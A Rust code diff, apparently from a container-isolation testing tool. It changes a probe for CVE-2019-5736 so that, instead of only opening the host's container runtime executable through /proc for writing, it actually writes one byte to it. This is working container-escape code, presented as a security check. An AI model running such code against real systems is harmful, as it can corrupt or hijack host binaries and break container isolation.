@@ -4,7 +4,7 @@ use std::{
     fs::{self, File},
     os::{
         fd::{AsRawFd, OwnedFd},
-        unix::fs::MetadataExt,
+        unix::fs::{FileExt, MetadataExt},
     },
     path::Path,
 };
@@ -153,7 +153,7 @@ pub(crate) fn working_directory() -> Outcome {
     Err(Blocked::Refused("too deep".into()))
 }
 
-/// Waits for the runtime to enter the container and opens its program for writing (CVE-2019-5736).
+/// Waits for the runtime to enter the container and writes to its program (CVE-2019-5736).
 pub(crate) fn overwrite_runtime(seconds: u64) -> Outcome {
     let until = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
     let own = fs::read_link("/proc/self/exe").unwrap_or_default();
@@ -173,7 +173,11 @@ pub(crate) fn overwrite_runtime(seconds: u64) -> Outcome {
             let again = format!("/proc/self/fd/{}", held.as_raw_fd());
             for _ in 0..2000 {
                 match File::options().write(true).open(&again) {
-                    Ok(_) => return Ok(format!("{name} was opened for writing")),
+                    // The first byte of any program stands for the rest. A sealed copy can be opened, but not written.
+                    Ok(file) => match file.write_at(b"\x7f", 0) {
+                        Ok(_) => return Ok(format!("{name} was written")),
+                        Err(error) => why = format!("opened, but {error}"),
+                    },
                     Err(error) => why = error.to_string(),
                 }
                 if !why.contains("busy") {
